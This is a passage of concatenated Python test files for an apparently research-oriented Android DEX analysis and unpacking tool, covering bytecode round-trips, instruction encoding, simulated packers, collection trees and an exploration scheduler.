    iput v1, p0, Lcom/rt/Main;->counter:I
    return-void
.end method

.method public compute(I)I
    .registers 5
    packed-switch p1, :cases
    const/4 v0, -1
    return v0
    :zero
    const/16 v0, 100
    return v0
    :one
    :try_start
    const/4 v1, 0
    div-int v0, v0, v1
    :try_end
    const/4 v0, 0
    return v0
    :handler
    const/16 v0, 200
    return v0
    :cases
    .packed-switch 0
        :zero
        :one
    .end packed-switch
    .catch Ljava/lang/ArithmeticException; {:try_start .. :try_end} :handler
.end method
"""
    return assemble(text)


class TestRoundTrip:
    def test_bytes_parse_back(self):
        raw = write_dex(_sample_dex())
        dex = read_dex(raw)
        assert dex.find_class("Lcom/rt/Main;") is not None

    def test_roundtrip_is_fixed_point(self):
        raw = write_dex(_sample_dex())
        raw2 = write_dex(read_dex(raw))
        assert raw == raw2

    def test_reread_passes_verifier(self):
        assert_valid(read_dex(write_dex(_sample_dex())))

    def test_magic_and_checksums(self):
        raw = write_dex(_sample_dex())
        assert raw[:8] == DEX_MAGIC
        assert int.from_bytes(raw[8:12], "little") == adler32_checksum(raw)
        assert raw[12:32] == sha1_signature(raw)

    def test_static_values_survive(self):
        dex = read_dex(write_dex(_sample_dex()))
        cls = dex.find_class("Lcom/rt/Main;")
        by_name = {}
        for encoded, value in zip(cls.static_fields, cls.static_values):
            by_name[dex.field_ref(encoded.field_idx).name] = value

        assert dex.string(by_name["NAME"].value) == "roundtrip"
        assert by_name["COUNT"].value == 42
        assert by_name["BIG"].value == 9999999999
        assert abs(by_name["RATE"].value - 1.5) < 1e-6

    def test_tries_survive(self):
        dex = read_dex(write_dex(_sample_dex()))
        cls = dex.find_class("Lcom/rt/Main;")
        compute = next(
            m for m in cls.all_methods()
            if dex.method_ref(m.method_idx).name == "compute"
        )
        assert len(compute.code.tries) == 1
        try_block = compute.code.tries[0]
        assert len(try_block.handlers) == 1
        type_idx, _addr = try_block.handlers[0]
        assert dex.type_descriptor(type_idx) == "Ljava/lang/ArithmeticException;"

    def test_instructions_identical(self):
        original = _sample_dex()
        raw = write_dex(original)  # canonicalizes in place
        reread = read_dex(raw)
        for cls_o, cls_r in zip(original.class_defs, reread.class_defs):
            for m_o, m_r in zip(cls_o.all_methods(), cls_r.all_methods()):
                if m_o.code is not None:
                    assert m_o.code.insns == m_r.code.insns


class TestRejection:
    def test_bad_magic(self):
        raw = bytearray(write_dex(_sample_dex()))
        raw[0] = ord("x")
        with pytest.raises(DexFormatError):
            read_dex(bytes(raw))

    def test_corrupted_checksum(self):
        raw = bytearray(write_dex(_sample_dex()))
        raw[100] ^= 0xFF
        with pytest.raises(DexFormatError):
            read_dex(bytes(raw))

    def test_non_strict_skips_digest_checks(self):
        raw = bytearray(write_dex(_sample_dex()))
        raw[8] ^= 0xFF  # corrupt the stored checksum itself
        read_dex(bytes(raw), strict=False)  # should not raise

    def test_truncated_file(self):
        raw = write_dex(_sample_dex())
        with pytest.raises(DexFormatError):
            read_dex(raw[:60])

    def test_size_mismatch(self):
        raw = write_dex(_sample_dex()) + b"\x00" * 4
        with pytest.raises(DexFormatError):
            read_dex(raw)


class TestEmptyAndEdge:
    def test_methodless_class(self):
        builder = DexBuilder()
        builder.add_class("Lcom/empty/Marker;")
        dex = read_dex(write_dex(builder.build()))
        assert dex.find_class("Lcom/empty/Marker;") is not None

    def test_interface_list_roundtrip(self):
        builder = DexBuilder()
        builder.add_class("Lcom/i/A;")  # plain class used as interface marker
        builder.add_class("Lcom/i/B;", interfaces=("Lcom/i/A;",))
        dex = read_dex(write_dex(builder.build()))
        cls = dex.find_class("Lcom/i/B;")
        assert [dex.type_descriptor(i) for i in cls.interfaces] == ["Lcom/i/A;"]

    def test_native_method_has_no_code(self):
        builder = DexBuilder()
        cls = builder.add_class("Lcom/n/N;")
        cls.method("nat", "V", (), native=True).build()
        dex = read_dex(write_dex(builder.build()))
        method = dex.find_class("Lcom/n/N;").all_methods()[0]
        assert method.code is None
