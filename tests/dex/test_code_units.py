"""Generation tracking on the live code-unit array."""

import pickle

from repro.dex.code_units import CodeUnits
from repro.dex.structures import CodeItem


class TestGenerationTracking:
    def test_starts_at_zero(self):
        units = CodeUnits([1, 2, 3])
        assert units.generation == 0
        assert list(units) == [1, 2, 3]

    def test_setitem_bumps(self):
        units = CodeUnits([1, 2, 3])
        units[1] = 9
        assert units.generation == 1
        assert units[1] == 9

    def test_slice_assignment_bumps(self):
        """The ``patch_code`` idiom: splice encoded units over a region."""
        units = CodeUnits([1, 2, 3, 4])
        units[1:3] = [7, 8]
        assert units.generation == 1
        assert list(units) == [1, 7, 8, 4]

    def test_every_mutator_bumps(self):
        units = CodeUnits([3, 1, 2])
        mutations = [
            lambda u: u.append(5),
            lambda u: u.extend([6, 7]),
            lambda u: u.insert(0, 0),
            lambda u: u.pop(),
            lambda u: u.remove(6),
            lambda u: u.sort(),
            lambda u: u.reverse(),
            lambda u: u.__iadd__([9]),
            lambda u: u.__imul__(2),
            lambda u: u.__delitem__(0),
            lambda u: u.clear(),
        ]
        for i, mutate in enumerate(mutations, start=1):
            mutate(units)
            assert units.generation == i, mutate

    def test_reads_do_not_bump(self):
        units = CodeUnits([1, 2, 3])
        _ = units[0], units[1:3], len(units), list(units), 2 in units
        _ = units.index(2), units.count(1)
        assert units.generation == 0

    def test_slicing_returns_plain_list(self):
        assert type(CodeUnits([1, 2])[0:1]) is list

    def test_equality_with_plain_list(self):
        assert CodeUnits([1, 2]) == [1, 2]

    def test_pickle_round_trip_resets_tracking(self):
        units = CodeUnits([1, 2, 3])
        units[0] = 4
        units.predecode[0] = ("sentinel",)
        clone = pickle.loads(pickle.dumps(units))
        assert isinstance(clone, CodeUnits)
        assert list(clone) == [4, 2, 3]
        assert clone.generation == 0
        assert clone.predecode == {}

    def test_copy_is_fresh(self):
        units = CodeUnits([1, 2])
        units[0] = 3
        clone = units.copy()
        assert isinstance(clone, CodeUnits)
        assert clone.generation == 0
        clone[0] = 5
        assert units[0] == 3  # independent storage


class TestCodeItemWrapping:
    def test_constructor_wraps_plain_list(self):
        code = CodeItem(2, 0, 0, [0x0E])  # return-void
        assert isinstance(code.insns, CodeUnits)

    def test_reassignment_wraps_plain_list(self):
        """Tests and tools reassign ``code.insns`` wholesale; the fresh
        array must be tracked (and carries a fresh predecode cache)."""
        code = CodeItem(2, 0, 0, [0x0E])
        old = code.insns
        code.insns = old[:-1] + [0x0E]
        assert isinstance(code.insns, CodeUnits)
        assert code.insns is not old
        assert code.insns.generation == 0

    def test_copy_yields_independent_tracked_array(self):
        code = CodeItem(2, 0, 0, [0x0E, 0x0E])
        clone = code.copy()
        assert isinstance(clone.insns, CodeUnits)
        clone.insns[0] = 0x00
        assert code.insns[0] == 0x0E
        assert code.insns.generation == 0
        assert clone.insns.generation == 1
