"""Instruction model tests."""

import pytest

from repro.dex import OPCODES, Instruction, iter_instructions
from repro.dex.opcodes import IndexKind, opcode_for
from repro.errors import DexFormatError


class TestMakeAndDecode:
    def test_make_by_mnemonic(self):
        ins = Instruction.make("const/4", 2, 5)
        assert ins.name == "const/4"
        assert ins.operands == (2, 5)

    def test_unknown_mnemonic(self):
        with pytest.raises(DexFormatError):
            Instruction.make("bogus-op", 0)

    def test_decode_at_offset(self):
        units = Instruction.make("nop").encode() + Instruction.make(
            "const/16", 1, 300
        ).encode()
        ins = Instruction.decode_at(units, 1)
        assert ins.name == "const/16"
        assert ins.operands == (1, 300)

    def test_encode_decode_identity(self):
        for name, operands in [
            ("move", (1, 2)),
            ("return-void", ()),
            ("if-eq", (3, 4, -10)),
            ("goto/16", (400,)),
            ("invoke-virtual", (9, 0, 1)),
            ("add-int/lit8", (0, 1, 17)),
            ("const-wide", (2, 2**40)),
        ]:
            ins = Instruction.make(name, *operands)
            again = Instruction.decode_at(ins.encode(), 0)
            assert again == ins


class TestAccessors:
    def test_branch_target_if(self):
        assert Instruction.make("if-ge", 1, 2, 7).branch_target == 7

    def test_branch_target_goto(self):
        assert Instruction.make("goto", -3).branch_target == -3

    def test_branch_target_switch(self):
        assert Instruction.make("packed-switch", 0, 40).branch_target == 40

    def test_branch_target_on_non_branch(self):
        with pytest.raises(DexFormatError):
            _ = Instruction.make("nop").branch_target

    def test_with_branch_target(self):
        ins = Instruction.make("if-ltz", 5, 2)
        assert ins.with_branch_target(9).branch_target == 9
        assert ins.with_branch_target(9).operands[0] == 5

    def test_pool_index_21c(self):
        assert Instruction.make("const-string", 0, 77).pool_index == 77

    def test_pool_index_35c_leads(self):
        assert Instruction.make("invoke-static", 12, 0).pool_index == 12

    def test_with_pool_index(self):
        ins = Instruction.make("sget-object", 0, 5)
        assert ins.with_pool_index(6).pool_index == 6

    def test_pool_index_on_plain_op(self):
        with pytest.raises(DexFormatError):
            _ = Instruction.make("add-int", 0, 1, 2).pool_index

    def test_invoke_registers_35c(self):
        ins = Instruction.make("invoke-virtual", 3, 4, 5, 6)
        assert ins.invoke_registers == [4, 5, 6]

    def test_invoke_registers_range(self):
        ins = Instruction.make("invoke-virtual/range", 3, 10, 4)
        assert ins.invoke_registers == [10, 11, 12, 13]

    def test_literal(self):
        assert Instruction.make("const/16", 0, -5).literal == -5
        assert Instruction.make("add-int/lit8", 0, 1, 9).literal == 9


class TestOpcodeProperties:
    def test_every_opcode_has_format(self):
        from repro.dex.formats import FORMAT_UNITS

        for info in OPCODES.values():
            assert info.fmt in FORMAT_UNITS

    def test_branch_classification(self):
        assert opcode_for("if-eq").is_conditional_branch
        assert opcode_for("goto").is_branch
        assert not opcode_for("goto").is_conditional_branch
        assert opcode_for("packed-switch").is_switch
        assert not opcode_for("nop").is_branch

    def test_can_continue(self):
        assert not opcode_for("return-void").can_continue
        assert not opcode_for("throw").can_continue
        assert not opcode_for("goto").can_continue
        assert opcode_for("if-eq").can_continue
        assert opcode_for("invoke-virtual").can_continue

    def test_index_kinds(self):
        assert opcode_for("const-string").index_kind is IndexKind.STRING
        assert opcode_for("new-instance").index_kind is IndexKind.TYPE
        assert opcode_for("iget").index_kind is IndexKind.FIELD
        assert opcode_for("invoke-super").index_kind is IndexKind.METHOD
        assert opcode_for("add-int").index_kind is IndexKind.NONE

    def test_opcode_values_unique_and_byte_sized(self):
        assert len({i.value for i in OPCODES.values()}) == len(OPCODES)
        assert all(0 <= i.value <= 0xFF for i in OPCODES.values())


class TestIterInstructions:
    def test_linear_stream(self):
        units = []
        for name, ops in [("const/4", (0, 1)), ("const/4", (1, 2)),
                          ("add-int", (2, 0, 1)), ("return", (2,))]:
            units += Instruction.make(name, *ops).encode()
        decoded = iter_instructions(units)
        assert [ins.name for _pc, ins in decoded] == [
            "const/4", "const/4", "add-int", "return"
        ]
        assert [pc for pc, _ in decoded] == [0, 1, 2, 4]

    def test_payload_region_is_skipped(self):
        from repro.dex.payloads import PackedSwitchPayload

        switch = Instruction.make("packed-switch", 0, 4)
        ret = Instruction.make("return-void")
        units = switch.encode() + ret.encode()
        units += PackedSwitchPayload(0, [4, 4]).encode()
        names = [ins.name for _pc, ins in iter_instructions(units)]
        assert names == ["packed-switch", "return-void"]
