"""Packer tests: ciphers, shell behaviour, vendor matrix."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.dex import read_dex
from repro.errors import DexFormatError, PackerUnavailable
from repro.packers import (
    UNAVAILABLE_PACKERS,
    WORKING_PACKERS,
    BaiduPacker,
    Qihoo360Packer,
    RotateCipher,
    StreamCipher,
    XorCipher,
)
from repro.runtime import EMULATOR, AndroidRuntime, AppDriver

from tests.conftest import build_simple_apk

_KEYS = st.binary(min_size=1, max_size=16)


class TestCiphers:
    @pytest.mark.parametrize("cipher", [XorCipher, RotateCipher, StreamCipher])
    def test_roundtrip_fixed(self, cipher):
        data = bytes(range(256)) * 3
        key = b"key-material"
        assert cipher.decrypt(cipher.encrypt(data, key), key) == data

    @pytest.mark.parametrize("cipher", [XorCipher, RotateCipher, StreamCipher])
    def test_ciphertext_differs(self, cipher):
        data = b"dex\n035\x00" + bytes(64)
        assert cipher.encrypt(data, b"k3y") != data

    @given(st.binary(max_size=300), _KEYS)
    def test_xor_roundtrip_property(self, data, key):
        assert XorCipher.decrypt(XorCipher.encrypt(data, key), key) == data

    @given(st.binary(max_size=300), _KEYS)
    def test_rotate_roundtrip_property(self, data, key):
        assert RotateCipher.decrypt(RotateCipher.encrypt(data, key), key) == data

    @given(st.binary(max_size=300), _KEYS)
    def test_stream_roundtrip_property(self, data, key):
        assert StreamCipher.decrypt(StreamCipher.encrypt(data, key), key) == data


class TestShellStructure:
    def test_payload_is_not_parseable_dex(self):
        packed = Qihoo360Packer().pack(build_simple_apk("com.fix.p1"))
        blob = packed.assets["qh360.bin"]
        with pytest.raises(DexFormatError):
            read_dex(blob, strict=False)

    def test_shell_dex_hides_original_classes(self):
        packed = Qihoo360Packer().pack(build_simple_apk("com.fix.p2"))
        descriptors = packed.primary_dex.class_descriptors()
        assert "Lcom/fix/Simple;" not in descriptors
        assert any("StubActivity" in d for d in descriptors)

    def test_packed_apk_is_small_class_count(self):
        # The paper's §V-C screen: packed apps have few classes.
        packed = Qihoo360Packer().pack(build_simple_apk("com.fix.p3"))
        assert len(packed.primary_dex.class_defs) < 50

    def test_main_activity_points_at_shell(self):
        packed = Qihoo360Packer().pack(build_simple_apk("com.fix.p4"))
        assert "shell" in packed.main_activity.lower() or "Stub" in packed.main_activity


class TestPackedExecution:
    @pytest.mark.parametrize("packer", WORKING_PACKERS, ids=lambda p: p.name)
    def test_packed_app_behaves_like_original(self, packer):
        apk = build_simple_apk(f"com.fix.exec.{packer.name.lower()}")
        packed = packer.pack(apk)
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, packed)
        report = driver.run_standard_session()
        assert report.launched and not report.crashed, report.crash_reason
        # The shell proxies lifecycle into the real activity, which it
        # keeps in its native_data slot.
        real_activity = driver.activity.native_data
        assert real_activity is not None, "shell never unpacked"
        assert real_activity.klass.descriptor == "Lcom/fix/Simple;"
        assert real_activity.fields[("Lcom/fix/Simple;", "total")] == 285

    def test_baidu_refuses_on_emulator(self):
        packed = BaiduPacker().pack(build_simple_apk("com.fix.antidebug"))
        runtime = AndroidRuntime(device=EMULATOR)
        report = AppDriver(runtime, packed).launch()
        assert report.crashed
        assert "anti-debug" in report.crash_reason

    def test_unavailable_services_raise(self):
        apk = build_simple_apk("com.fix.unavail")
        for packer in UNAVAILABLE_PACKERS:
            with pytest.raises(PackerUnavailable):
                packer.pack(apk)

    def test_pack_twice_is_deterministic_shape(self):
        apk = build_simple_apk("com.fix.det")
        a = Qihoo360Packer().pack(apk)
        b = Qihoo360Packer().pack(build_simple_apk("com.fix.det"))
        assert a.primary_dex.class_descriptors() == b.primary_dex.class_descriptors()
