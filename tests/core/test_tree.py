"""Collection tree tests: Algorithm 1 semantics."""

from hypothesis import given
from hypothesis import strategies as st

from repro.core.tree import CollectedInstruction, CollectionTree, TreeNode


def _ci(dex_pc: int, units: tuple, symbol=None) -> CollectedInstruction:
    return CollectedInstruction(dex_pc, units, None, symbol)


def _tree() -> CollectionTree:
    return CollectionTree("Lt/X;->m()V", 4, 1, 1)


_NOP = (0x0000,)
_CONST_A = (0x0112,)  # const/4 v1, 0
_CONST_B = (0x1112,)  # const/4 v1, 1
_CONST_C = (0x2112,)  # const/4 v1, 2
_RET = (0x000E,)


class TestBaselineRecording:
    def test_first_execution_goes_to_root(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(1, _RET))
        assert [c.dex_pc for c in tree.root.il] == [0, 1]
        assert tree.root.iim == {0: 0, 1: 1}

    def test_repeat_same_instruction_not_recorded(self):
        tree = _tree()
        for _ in range(5):
            tree.observe(_ci(0, _CONST_A))
        assert len(tree.root.il) == 1

    def test_loop_keeps_code_size_stable(self):
        tree = _tree()
        for _round in range(10):
            tree.observe(_ci(0, _CONST_A))
            tree.observe(_ci(1, _NOP))
            tree.observe(_ci(2, _RET))
        assert tree.instruction_count() == 3

    def test_branchy_execution_records_first_visit_order(self):
        tree = _tree()
        # dex_pc order of execution: 0, 5, 2 (branch back).
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(5, _NOP))
        tree.observe(_ci(2, _RET))
        assert [c.dex_pc for c in tree.root.il] == [0, 5, 2]
        assert tree.root.iim[5] == 1  # IL index differs from dex_pc


class TestDivergence:
    def test_modified_instruction_forks_child(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(0, _CONST_B))
        assert len(tree.root.children) == 1
        child = tree.root.children[0]
        assert child.sm_start == 0
        assert child.il[0].units == _CONST_B
        assert tree.current is child

    def test_convergence_returns_to_parent(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(1, _NOP))
        tree.observe(_ci(0, _CONST_B))  # diverge
        tree.observe(_ci(1, _NOP))  # same as parent -> converge
        child = tree.root.children[0]
        assert child.sm_end == 1
        assert tree.current is tree.root

    def test_paper_code1_shape(self):
        """Listing 1: a root plus one single-instruction child."""
        tree = _tree()
        invoke_normal = (0x106E, 5, 0x0003)
        invoke_sink = (0x106E, 6, 0x0003)
        invoke_tamper = (0x206E, 7, 0x0013)
        loop = [
            _ci(0, (0x0070,)),  # source
            _ci(3, _CONST_A),
        ]
        for collected in loop:
            tree.observe(collected)
        # iteration 1: normal(a); tamper(0)
        tree.observe(_ci(8, invoke_normal))
        tree.observe(_ci(11, invoke_tamper))
        # iteration 2: sink(a) -- divergence; tamper(1) -- convergence
        tree.observe(_ci(8, invoke_sink))
        tree.observe(_ci(11, invoke_tamper))
        assert tree.node_count() == 2
        child = tree.root.children[0]
        assert child.sm_start == 8
        assert child.sm_end == 11
        assert len(child.il) == 1  # "the child node contains only one instruction"

    def test_multi_layer_nesting(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(0, _CONST_B))  # layer 1
        tree.observe(_ci(0, _CONST_C))  # layer 2: B != C inside child
        assert tree.root.depth() == 2
        layer1 = tree.root.children[0]
        layer2 = layer1.children[0]
        assert layer2.il[0].units == _CONST_C

    def test_sibling_divergences(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A))
        tree.observe(_ci(2, _NOP))
        tree.observe(_ci(0, _CONST_B))  # diverge at 0
        tree.observe(_ci(2, _NOP))  # converge
        tree.observe(_ci(0, _CONST_A))  # back to baseline (same as root)
        tree.observe(_ci(4, _RET))  # new root instruction
        assert len(tree.root.children) == 1
        assert {c.dex_pc for c in tree.root.il} == {0, 2, 4}


class TestSerialization:
    def test_dict_roundtrip(self):
        tree = _tree()
        tree.observe(_ci(0, _CONST_A, "Lx;->y()V"))
        tree.observe(_ci(0, _CONST_B))
        tree.observe(_ci(3, _RET))
        again = CollectionTree.from_dict(tree.to_dict())
        assert again.fingerprint() == tree.fingerprint()
        assert again.root.il[0].symbol == "Lx;->y()V"

    def test_fingerprint_distinguishes_trees(self):
        t1, t2 = _tree(), _tree()
        t1.observe(_ci(0, _CONST_A))
        t2.observe(_ci(0, _CONST_B))
        assert t1.fingerprint() != t2.fingerprint()

    def test_fingerprint_equal_for_identical(self):
        t1, t2 = _tree(), _tree()
        for t in (t1, t2):
            t.observe(_ci(0, _CONST_A))
            t.observe(_ci(1, _RET))
        assert t1.fingerprint() == t2.fingerprint()

    @given(st.lists(st.tuples(st.integers(0, 8),
                              st.sampled_from([_CONST_A, _CONST_B, _CONST_C])),
                    max_size=40))
    def test_roundtrip_any_observation_sequence(self, events):
        tree = _tree()
        for dex_pc, units in events:
            tree.observe(_ci(dex_pc, units))
        again = CollectionTree.from_dict(tree.to_dict())
        assert again.fingerprint() == tree.fingerprint()

    @given(st.lists(st.tuples(st.integers(0, 6),
                              st.sampled_from([_CONST_A, _CONST_B])),
                    max_size=60))
    def test_invariant_no_duplicate_pc_in_node(self, events):
        """Within one node, each dex_pc appears at most once in IL."""
        tree = _tree()
        for dex_pc, units in events:
            tree.observe(_ci(dex_pc, units))

        def check(node: TreeNode):
            pcs = [c.dex_pc for c in node.il]
            assert len(pcs) == len(set(pcs))
            for child in node.children:
                check(child)

        check(tree.root)
