"""MethodStore lookup/eviction semantics and backend equivalence.

The corpus index registers methods straight out of a reveal's
:class:`MethodStore`, so two properties matter beyond the existing
differential suite:

* the store's mutation API (``ensure``/``evict``/``add_tree``) behaves
  like the corpus-maintenance code assumes — eviction is a clean drop
  and re-linking recreates records instead of clobbering them;
* the store a collection produces is *identical* (signatures, tree
  fingerprints, structural metadata) whichever replay backend and
  worker count explored the app — otherwise the same APK would index
  differently depending on how it was revealed.
"""

import pytest

from repro.core import (
    BACKEND_PROCESS,
    BACKEND_SERIAL,
    BACKEND_THREAD,
    CollectStage,
    RevealConfig,
)
from repro.core.body_cache import (
    exact_method_digest,
    normalized_method_digest,
)
from repro.core.method_store import MethodRecord, MethodStore
from repro.dex import assemble
from repro.runtime import Apk


def _record(signature="La/C;->m()V", **kwargs):
    defaults = dict(
        class_desc="La/C;",
        name="m",
        param_descs=(),
        return_desc="V",
        access_flags=0x1,
    )
    defaults.update(kwargs)
    return MethodRecord(signature=signature, **defaults)


class TestStoreSemantics:
    def test_ensure_keeps_the_first_record(self):
        store = MethodStore()
        first = store.ensure(_record())
        second = store.ensure(_record(access_flags=0x9))
        assert second is first
        assert len(store) == 1

    def test_get_miss_is_none(self):
        assert MethodStore().get("La/C;->missing()V") is None

    def test_evict_then_relink(self):
        store = MethodStore()
        store.ensure(_record())
        assert store.evict("La/C;->m()V") is True
        assert store.evict("La/C;->m()V") is False
        assert store.get("La/C;->m()V") is None
        assert len(store) == 0
        # A later re-link recreates the record from scratch.
        fresh = store.ensure(_record())
        assert fresh.trees == []

    def test_add_tree_to_unknown_signature_is_refused(self):
        store = MethodStore()
        assert store.add_tree("La/C;->missing()V", object()) is False


# Two one-sided gates at different depths: force execution schedules
# several replay waves, so thread/process pools have room to interleave.
_GATED = """
.class public Lms/Gated;
.super Landroid/app/Activity;
.field public static a:I = 0
.field public static b:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    if-nez v0, :skip0
    sget v1, Lms/Gated;->a:I
    add-int/lit8 v1, v1, 1
    sput v1, Lms/Gated;->a:I
    :skip0
    const/4 v0, 0
    if-nez v0, :skip1
    sget v1, Lms/Gated;->b:I
    add-int/lit8 v1, v1, 1
    sput v1, Lms/Gated;->b:I
    :skip1
    invoke-virtual {p0}, Lms/Gated;->helper()I
    move-result v2
    return-void
.end method

.method public helper()I
    .registers 2
    const/16 v0, 42
    return v0
.end method
"""


def _gated_apk() -> Apk:
    return Apk("ms.gated", "Lms/Gated;", [assemble(_GATED)])


def _collect_store(backend: str, workers: int):
    config = RevealConfig(
        use_force_execution=True,
        force_iterations=8,
        explore_workers=workers,
        explore_backend=backend,
    )
    return CollectStage(config).run(_gated_apk()).archive.method_store()


def _masked_node(node) -> tuple:
    """Tree identity minus raw instruction units.

    Process workers decode replays against the *serialised* APK, whose
    constant pools are canonically sorted, so pool indices inside the
    recorded units can legitimately renumber relative to the parent's
    in-memory build.  Symbols travel alongside every pool-referencing
    instruction and the digest pipeline masks the indices, so nothing
    downstream can see the renumbering — the equivalence contract is
    therefore structure + symbols + digests, not raw units.
    """
    return (
        node.sm_start,
        tuple((c.dex_pc, c.symbol) for c in node.il),
        tuple(_masked_node(child) for child in node.children),
    )


def _snapshot(store: MethodStore) -> dict:
    """Everything the corpus index reads off a store, normalised."""
    snap = {}
    for sig, rec in store.records.items():
        digests = None
        if rec.executed:
            digests = (exact_method_digest(rec),
                       normalized_method_digest(rec))
        snap[sig] = {
            "class": rec.class_desc,
            "regs": (rec.registers_size, rec.ins_size, rec.outs_size),
            "flags": rec.access_flags,
            "native": rec.is_native,
            "executed": rec.executed,
            "digests": digests,
            "fingerprints": sorted(
                repr(_masked_node(t.root)) for t in rec.trees),
            "tries": [t.to_dict() for t in rec.tries],
        }
    return snap


class TestBackendEquivalence:
    @pytest.mark.parametrize("workers", [1, 2, 4])
    @pytest.mark.parametrize("backend", [BACKEND_THREAD, BACKEND_PROCESS])
    def test_store_contents_identical_across_backends(self, backend,
                                                      workers):
        reference = _snapshot(_collect_store(BACKEND_SERIAL, 1))
        assert _snapshot(_collect_store(backend, workers)) == reference

    def test_reference_store_is_not_vacuous(self):
        store = _collect_store(BACKEND_SERIAL, 1)
        executed = store.executed_records()
        assert len(executed) >= 2  # onCreate + helper at minimum
        assert any(rec.trees for rec in executed)

    def test_eviction_on_a_collected_store(self):
        store = _collect_store(BACKEND_SERIAL, 1)
        target = store.executed_records()[0].signature
        before = len(store)
        assert store.evict(target) is True
        assert len(store) == before - 1
        assert all(rec.signature != target
                   for rec in store.executed_records())
