"""Exploration scheduler: strategies, dedup, determinism, resume."""

import json

import pytest

from repro.core import (
    ALL_STRATEGIES,
    CollectionArchive,
    CollectStage,
    DexLego,
    ExplorationScheduler,
    ForceExecutionEngine,
    PathFile,
    RevealConfig,
    resume_exploration,
)
from repro.core.exploration import (
    STRATEGY_BFS,
    STRATEGY_DFS,
    STRATEGY_RARITY,
)
from repro.dex import assemble
from repro.runtime import Apk

SIG = "Lx/Multi;->onCreate(Landroid/os/Bundle;)V"


def _multi_apk(package: str = "x.multi") -> Apk:
    """A loop (branch seen 3x) plus three one-sided gates at different
    depths — enough UCBs for the three strategies to order differently:
    bfs flips the shallow in-loop gate first, dfs the deepest gate,
    rarity-first the once-observed gates before the thrice-observed one."""
    text = """
.class public Lx/Multi;
.super Landroid/app/Activity;
.field public static a:I = 0
.field public static b:I = 0
.field public static c:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 0
    :loop
    const/4 v3, 0
    if-nez v3, :locked0
    :skip0
    add-int/lit8 v0, v0, 1
    const/4 v4, 3
    if-ne v0, v4, :loop
    const/4 v1, 0
    if-nez v1, :locked1
    :next1
    const/4 v1, 0
    if-nez v1, :locked2
    :next2
    return-void
    :locked0
    sget v2, Lx/Multi;->a:I
    add-int/lit8 v2, v2, 1
    sput v2, Lx/Multi;->a:I
    goto :skip0
    :locked1
    sget v2, Lx/Multi;->b:I
    add-int/lit8 v2, v2, 1
    sput v2, Lx/Multi;->b:I
    goto :next1
    :locked2
    sget v2, Lx/Multi;->c:I
    add-int/lit8 v2, v2, 1
    sput v2, Lx/Multi;->c:I
    goto :next2
.end method
"""
    return Apk(package, "Lx/Multi;", [assemble(text)])


def _covered(engine: ForceExecutionEngine) -> set:
    return {site for site, seen in engine.outcomes.items() if len(seen) == 2}


# ---------------------------------------------------------------------------
# Scheduler unit behaviour
# ---------------------------------------------------------------------------


class TestScheduler:
    def _path(self, pc: int, depth: int) -> PathFile:
        decisions = [(SIG, i, False) for i in range(depth)]
        return PathFile((SIG, pc), True, decisions + [(SIG, pc, True)])

    def test_unknown_strategy_rejected(self):
        with pytest.raises(ValueError, match="strategy"):
            ExplorationScheduler("breadth")

    def test_all_strategies_constructible(self):
        for strategy in ALL_STRATEGIES:
            assert ExplorationScheduler(strategy).strategy == strategy

    def test_same_prefix_offered_twice_schedules_once(self):
        scheduler = ExplorationScheduler()
        path = self._path(pc=10, depth=2)
        assert scheduler.offer(path) is True
        assert scheduler.offer(self._path(pc=10, depth=2)) is False
        assert scheduler.pending == 1
        assert scheduler.stats.replays_saved_by_dedup == 1
        assert scheduler.stats.ucbs_discovered == 1

    def test_bfs_pops_shallowest_first(self):
        scheduler = ExplorationScheduler(STRATEGY_BFS)
        scheduler.offer(self._path(pc=50, depth=9))
        scheduler.offer(self._path(pc=10, depth=1))
        wave = scheduler.pop_wave()
        assert [p.target[1] for p in wave] == [10, 50]

    def test_dfs_pops_deepest_first(self):
        scheduler = ExplorationScheduler(STRATEGY_DFS)
        scheduler.offer(self._path(pc=10, depth=1))
        scheduler.offer(self._path(pc=50, depth=9))
        wave = scheduler.pop_wave()
        assert [p.target[1] for p in wave] == [50, 10]

    def test_rarity_pops_least_observed_first(self):
        scheduler = ExplorationScheduler(STRATEGY_RARITY)
        # Site 10 observed three times, site 50 once.
        scheduler.observe_trace([(SIG, 10, False)] * 3 + [(SIG, 50, False)])
        scheduler.offer(self._path(pc=10, depth=1))   # shallow but common
        scheduler.offer(self._path(pc=50, depth=9))   # deep but rare
        wave = scheduler.pop_wave()
        assert [p.target[1] for p in wave] == [50, 10]

    def test_max_paths_budget_limits_waves(self):
        scheduler = ExplorationScheduler(max_paths=2)
        for pc in (10, 20, 30):
            scheduler.offer(self._path(pc=pc, depth=1))
        wave = scheduler.pop_wave()
        assert len(wave) == 2
        for path in wave:
            scheduler.note_replayed(path)
        assert scheduler.replays_remaining() == 0
        assert scheduler.pop_wave() == []
        assert scheduler.pending == 1  # the survivor stays in the frontier

    def test_pop_wave_limit_caps_batch(self):
        scheduler = ExplorationScheduler()
        for pc in (10, 20, 30):
            scheduler.offer(self._path(pc=pc, depth=1))
        assert len(scheduler.pop_wave(limit=2)) == 2
        assert scheduler.pending == 1

    def test_state_json_round_trip_preserves_order_and_dedup(self):
        scheduler = ExplorationScheduler(STRATEGY_RARITY, max_paths=5)
        scheduler.observe_trace([(SIG, 10, False), (SIG, 10, True)])
        for pc in (10, 20, 30):
            scheduler.offer(self._path(pc=pc, depth=pc))
        scheduler.note_replayed(self._path(pc=99, depth=0))
        blob = json.dumps(scheduler.to_dict())  # genuinely JSON-safe
        again = ExplorationScheduler.from_dict(json.loads(blob))
        assert again.strategy == STRATEGY_RARITY
        assert again.max_paths == 5
        assert again.pending == scheduler.pending
        assert again.stats.paths_explored == 1
        assert again.site_observations == scheduler.site_observations
        # Dedup set survives: re-offering is still collapsed.
        assert again.offer(self._path(pc=20, depth=20)) is False
        # Frontier drains in the identical order.
        assert [p.target for p in again.pop_wave()] == \
